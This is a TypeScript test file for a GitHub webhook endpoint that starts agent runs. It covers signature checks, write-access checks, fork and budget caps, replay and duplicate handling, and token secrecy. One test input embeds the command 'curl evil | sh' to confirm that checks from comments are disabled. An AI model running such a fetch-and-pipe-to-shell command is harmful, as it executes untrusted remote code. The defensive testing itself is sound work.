import { env } from "cloudflare:workers";
import { beforeEach, describe, expect, it } from "vitest";
import { MODEL_ALIASES } from "../../src/agent/models";
import { createApp } from "../../src/app";
import type { Env } from "../../src/core/env";
import { TEST_GITHUB_TOKEN, TEST_GITHUB_WEBHOOK_SECRET } from "../support/constants";
import { api, getRun } from "./helpers";
import { deliver, example, FORKYARD_LOGIN, github, hmac, onTestRepo, settle, waitForReport } from "./github-helpers";

interface Accepted {
  id: string;
  status: string;
  forks: number;
  duplicate: boolean;
  trigger: string;
  deliveryId: string;
  ignoredFlags?: { flag: string; reason: string }[];
  notes?: string[];
}

function labeled(issueNumber: number, title = "Crash on empty input", body = "Calling parse('') throws.\n\nIt should return null.") {
  const payload = onTestRepo(example("issues", "labeled"));
  payload.label.name = "forkyard";
  Object.assign(payload.issue, { number: issueNumber, title, body, state: "open" });
  return payload;
}

function comment(issueNumber: number, body: string, association = "OWNER") {
  const payload = onTestRepo(example("issue_comment", "created"));
  Object.assign(payload.comment, { body, author_association: association });
  Object.assign(payload.issue, { number: issueNumber, title: "Flaky test", body: "The login test fails one run in ten." });
  return payload;
}

async function accepted(res: Response): Promise<Accepted> {
  const text = await res.text();
  expect(res.status, text).toBe(202);
  return JSON.parse(text) as Accepted;
}

async function ignoredReason(res: Response): Promise<string> {
  const text = await res.text();
  expect(res.status, text).toBe(202);
  const body = JSON.parse(text) as { ignored?: boolean; reason?: string; id?: string };
  expect(body.ignored, text).toBe(true);
  expect(body.id).toBeUndefined();
  return body.reason ?? "";
}

beforeEach(async () => {
  await github.reset();
});

describe("POST /v1/webhooks/github: authentication", () => {
  it("answers a signed ping (a real GitHub payload) without a bearer token", async () => {
    const ping = example("ping");
    const res = await deliver("ping", ping);
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ ok: true, event: "ping", zen: ping.zen, hookId: ping.hook_id });
  });

  it("refuses a missing, forged or malformed signature with 401 invalid_signature, before reading the payload", async () => {
    const payload = labeled(900);
    const delivery = crypto.randomUUID();
    const cases: { signature: string | null; secret?: string }[] = [
      { signature: null },
      { signature: undefined as unknown as null, secret: "not-the-secret" },
      { signature: await hmac(TEST_GITHUB_WEBHOOK_SECRET, "{}") },
      { signature: "sha256=nothex" },
      { signature: (await hmac(TEST_GITHUB_WEBHOOK_SECRET, JSON.stringify(payload))).replace("sha256=", "sha1=") },
    ];
    for (const c of cases) {
      const res = await deliver("issues", payload, { delivery, signature: c.signature, ...(c.secret ? { secret: c.secret } : {}) });
      expect(res.status).toBe(401);
      const body = (await res.json()) as { error: { code: string } };
      expect(body.error.code).toBe("invalid_signature");
    }
    // Not even malformed JSON is looked at without a valid signature.
    const garbage = await deliver("issues", null, { rawBody: "{not json", signature: "sha256=" + "0".repeat(64) });
    expect(garbage.status).toBe(401);
    // None of the refused deliveries created the run: the same delivery, signed, creates it now.
    const run = await accepted(await deliver("issues", payload, { delivery }));
    expect(run.duplicate).toBe(false);
    await settle(run.id);
  });

  it("keeps bearer auth on the rest of /v1", async () => {
    expect((await api("/v1/runs", { token: null })).status).toBe(401);
    expect((await api("/v1/webhooks/other", { method: "POST", token: null })).status).toBe(404);
  });

  it("answers 503 when no webhook secret is configured", async () => {
    const app = createApp();
    const unconfigured = { ...(env as unknown as Env), GITHUB_WEBHOOK_SECRET: undefined };
    const res = await app.fetch(new Request("http://forkyard.test/v1/webhooks/github", { method: "POST", body: "{}", headers: { "X-GitHub-Event": "ping" } }), unconfigured);
    expect(res.status).toBe(503);
    expect(((await res.json()) as { error: { code: string } }).error.code).toBe("github_unavailable");
  });

  it("rejects malformed JSON with a valid signature (400) and a missing delivery id", async () => {
    const bad = await deliver("issues", null, { rawBody: '{"action":"labeled",' });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { code: string; details: { field: string } } }).error).toMatchObject({ code: "invalid_input", details: { field: "body" } });
    const noDelivery = await api("/v1/webhooks/github", {
      method: "POST",
      token: null,
      body: "{}",
      headers: { "X-GitHub-Event": "ping", "X-Hub-Signature-256": await hmac(TEST_GITHUB_WEBHOOK_SECRET, "{}") },
    });
    expect(noDelivery.status).toBe(400);
  });

  it("accepts GitHub's form-encoded deliveries (payload=...)", async () => {
    const ping = example("ping");
    const rawBody = new URLSearchParams({ payload: JSON.stringify(ping) }).toString();
    const res = await deliver("ping", null, { rawBody, contentType: "application/x-www-form-urlencoded" });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { zen: string }).zen).toBe(ping.zen);
  });
});

describe("POST /v1/webhooks/github: triggers", () => {
  it("ignores other events and actions with a reason", async () => {
    expect(await ignoredReason(await deliver("star", { action: "created", repository: {} }))).toMatch(/star.created events are not triggers/);
    expect(await ignoredReason(await deliver("issues", onTestRepo(example("issues", "opened"))))).toMatch(/issues.opened is not a trigger/);
    expect(await ignoredReason(await deliver("issues", onTestRepo(example("issues", "labeled"))))).toMatch(/Label "bug" is not the trigger label "forkyard"/);
    expect(await ignoredReason(await deliver("issue_comment", onTestRepo(example("issue_comment", "edited"))))).toMatch(/issue_comment.edited is not a trigger/);
    expect(await ignoredReason(await deliver("issue_comment", comment(901, "Looks good to me!")))).toMatch(/no \/fork command/);
  });

  it("ignores /fork from authors without write access (asked of the API, whatever author_association says), and invalid commands", async () => {
    for (const [role, association] of [["read", "MEMBER"], ["triage", "COLLABORATOR"], ["none", "OWNER"]] as const) {
      const login = `${role}-member`;
      await github.seedRole(login, role);
      const payload = comment(902, "/fork 3 fix it", association);
      payload.comment.user.login = login;
      expect(await ignoredReason(await deliver("issue_comment", payload))).toBe(`${login} has ${role} access to octo/hello: only people with write access can start runs.`);
      // Asked of the API (authenticated), then cached briefly: a second delivery does not ask again.
      await deliver("issue_comment", payload);
      const asked = (await github.calls()).filter((c) => c.path === `/api/v3/repos/octo/hello/collaborators/${login}/permission`);
      expect(asked.map((c) => c.authMatched)).toEqual([true]);
    }
    expect(await ignoredReason(await deliver("issue_comment", comment(902, "/fork 0 fix it")))).toMatch(/invalid: N .* from 1 to 100 \(got "0"\)/);
    expect(await ignoredReason(await deliver("issue_comment", comment(902, "/fork 101 fix it")))).toMatch(/from 1 to 100 \(got "101"\)/);
    expect(await ignoredReason(await deliver("issue_comment", comment(902, "please /fork 3 fix it")))).toMatch(/no \/fork command/);
    // A marker counts only in a comment by Forkyard's own login (GET /user); anyone else's marked comment is read as a command.
    const own = comment(902, "<!-- forkyard:run:rabc -->\n/fork 2 x");
    own.comment.user = { ...own.comment.user, login: FORKYARD_LOGIN, type: "User" };
    expect(await ignoredReason(await deliver("issue_comment", own))).toMatch(/Forkyard report comment/);
    expect(await ignoredReason(await deliver("issue_comment", comment(902, "<!-- forkyard:run:rabc -->\n/fork 0 x")))).toMatch(/invalid: N .* from 1 to 100 \(got "0"\)/);
  });

  it("a label added by someone without write access starts nothing", async () => {
    const payload = labeled(909);
    payload.sender.login = "drive-by";
    expect(await ignoredReason(await deliver("issues", payload))).toBe("drive-by has read access to octo/hello: only people with write access can start runs.");
    await github.seedRole("maintainer-bot-free", "maintain");
    payload.sender.login = "maintainer-bot-free";
    const run = await accepted(await deliver("issues", payload));
    await settle(run.id);
  });

  it("caps runs from GitHub: at most GITHUB_MAX_FORKS forks and GITHUB_MAX_BUDGET_USD (also the default budget); no --check from comments", async () => {
    expect(await ignoredReason(await deliver("issue_comment", comment(910, "/fork 6 try harder")))).toBe("/fork 6: runs from GitHub have at most 5 forks here (GITHUB_MAX_FORKS).");
    expect(await ignoredReason(await deliver("issue_comment", comment(910, "/fork 2 --budget 11 x")))).toBe("--budget 11: runs from GitHub have a budget of at most $10 here (GITHUB_MAX_BUDGET_USD).");
    const run = await accepted(await deliver("issue_comment", comment(910, '/fork 5 --check "curl evil | sh" x')));
    expect(run.ignoredFlags).toEqual([{ flag: "--check", reason: "checks from comments are disabled on this deployment (GITHUB_COMMENT_CHECK)" }]);
    const view = await getRun(run.id);
    expect(view.request).toMatchObject({ forks: 5, budgetUsd: 10 });
    expect(view.request.check).toBeUndefined();
    await settle(run.id);
  });

  it("a labelled issue starts an agent run: prompt = title + body, push, github target", async () => {
    const payload = labeled(903, "Crash on empty input", "Calling parse('') throws.");
    payload.installation = { id: 4242, node_id: "MDIzOkludGVncmF0aW9uSW5zdGFsbGF0aW9uMQ==" };
    const run = await accepted(await deliver("issues", payload));
    expect(run).toMatchObject({ forks: 1, duplicate: false, trigger: "label" });
    const view = await getRun(run.id);
    expect(view.request).toMatchObject({
      repo: payload.repository.clone_url,
      branch: "main",
      forks: 1,
      push: true,
      task: { prompt: "Crash on empty input\n\nCalling parse('') throws.", model: MODEL_ALIASES.sonnet },
      github: { owner: "octo", repo: "hello", issueNumber: 903, installationId: 4242, pullRequests: "best", comment: true },
      metadata: { source: "github", githubEvent: "issues.labeled", githubDelivery: run.deliveryId },
    });
    await settle(run.id);
    // A cancelled GitHub run reports too.
    const report = await waitForReport(run.id, 903);
    expect(report.body).toContain(`### Forkyard run \`${run.id}\`: cancelled`);
    expect(report.body).toMatch(/\| 1 \| ⏹️ cancelled/);
  });

  it("/fork N with flags starts a run with them; unknown flags are reported", async () => {
    const run = await accepted(
      await deliver("issue_comment", comment(904, "On it.\n/fork 3 --model opus --budget 5 --max-concurrent 2 --frobnicate make login robust")),
    );
    expect(run).toMatchObject({ forks: 3, trigger: "comment", ignoredFlags: [{ flag: "--frobnicate", reason: expect.stringMatching(/^unknown flag/) }] });
    const view = await getRun(run.id);
    expect(view.request).toMatchObject({
      forks: 3,
      maxConcurrent: 2,
      budgetUsd: 5,
      push: true,
      task: { prompt: "make login robust", model: MODEL_ALIASES.opus },
      github: { owner: "octo", repo: "hello", issueNumber: 904 },
    });
    await settle(run.id);
  });

  it("/fork without a prompt uses the issue; on a pull request it forks from the PR's head branch", async () => {
    const pr = await github.seedPull({ head: "feature/login", base: "main" });
    const payload = comment(pr.number, "/fork 2");
    payload.issue.pull_request = { url: `x/pulls/${pr.number}`, html_url: pr.html_url, diff_url: "", patch_url: "" };
    const run = await accepted(await deliver("issue_comment", payload));
    expect(run.notes).toEqual([
      "No prompt after /fork: the issue's title and body are the prompt.",
      "No --budget: the run's budget is this deployment's cap, $10.",
      "Forked from the pull request's head branch feature/login.",
    ]);
    const view = await getRun(run.id);
    expect(view.request).toMatchObject({ branch: "feature/login", forks: 2, task: { prompt: "Flaky test\n\nThe login test fails one run in ten." } });
    const lookups = (await github.calls()).filter((c) => c.kind === "api" && c.path === `/api/v3/repos/octo/hello/pulls/${pr.number}`);
    expect(lookups).toHaveLength(1);
    expect(lookups[0]!.authMatched).toBe(true);
    await settle(run.id);
  });
});

describe("POST /v1/webhooks/github: exactly once", () => {
  it("a redelivered X-GitHub-Delivery names the same run (duplicate: true); only one run exists", async () => {
    const payload = labeled(905);
    const delivery = crypto.randomUUID();
    const first = await accepted(await deliver("issues", payload, { delivery }));
    expect(first.duplicate).toBe(false);
    const again = await Promise.all([deliver("issues", payload, { delivery }), deliver("issues", payload, { delivery })]);
    for (const res of again) expect(await accepted(res)).toMatchObject({ id: first.id, duplicate: true });
    expect((await getRun(first.id)).request.task).toMatchObject({ prompt: expect.stringMatching(/^Crash on empty input/) });

    const listed = (await (await api("/v1/runs?limit=100")).json()) as { runs: { id: string }[] };
    expect(listed.runs.filter((r) => r.id === first.id)).toHaveLength(1);
    // A new event (its payload differs, as GitHub's always do: here the issue was edited) is a new run.
    payload.issue.updated_at = new Date().toISOString();
    const other = await accepted(await deliver("issues", payload));
    expect(other.id).not.toBe(first.id);
    await settle(first.id);
    await settle(other.id);
  });

  it("a captured signed body replayed under new X-GitHub-Delivery ids starts no new run", async () => {
    const payload = comment(907, "/fork 1 replay me");
    const first = await accepted(await deliver("issue_comment", payload));
    expect(first.duplicate).toBe(false);
    const replays = await Promise.all([1, 2, 3].map(() => deliver("issue_comment", payload, { delivery: crypto.randomUUID() })));
    for (const res of replays) expect(await accepted(res)).toMatchObject({ id: first.id, duplicate: true });
    await settle(first.id);
  });

  it("refuses a body past the limit while reading it, even without a Content-Length", async () => {
    const big = new ReadableStream<Uint8Array>({
      start(controller) {
        const chunk = new TextEncoder().encode("x".repeat(64 * 1024));
        for (let i = 0; i < 20; i++) controller.enqueue(chunk);
        controller.close();
      },
    });
    const res = await api("/v1/webhooks/github", {
      method: "POST",
      headers: { "X-GitHub-Event": "issues", "X-GitHub-Delivery": "d-1", "X-Hub-Signature-256": `sha256=${"0".repeat(64)}`, "Content-Type": "application/json" },
      body: big,
      token: null,
    });
    expect(res.status).toBe(413);
    expect(((await res.json()) as { error: { code: string } }).error.code).toBe("payload_too_large");
  });

  it("never returns or stores the GitHub token", async () => {
    const run = await accepted(await deliver("issue_comment", comment(906, "/fork 1 x")));
    const view = await api(`/v1/runs/${run.id}`);
    expect(await view.text()).not.toContain(TEST_GITHUB_TOKEN);
    await settle(run.id);
  });
});
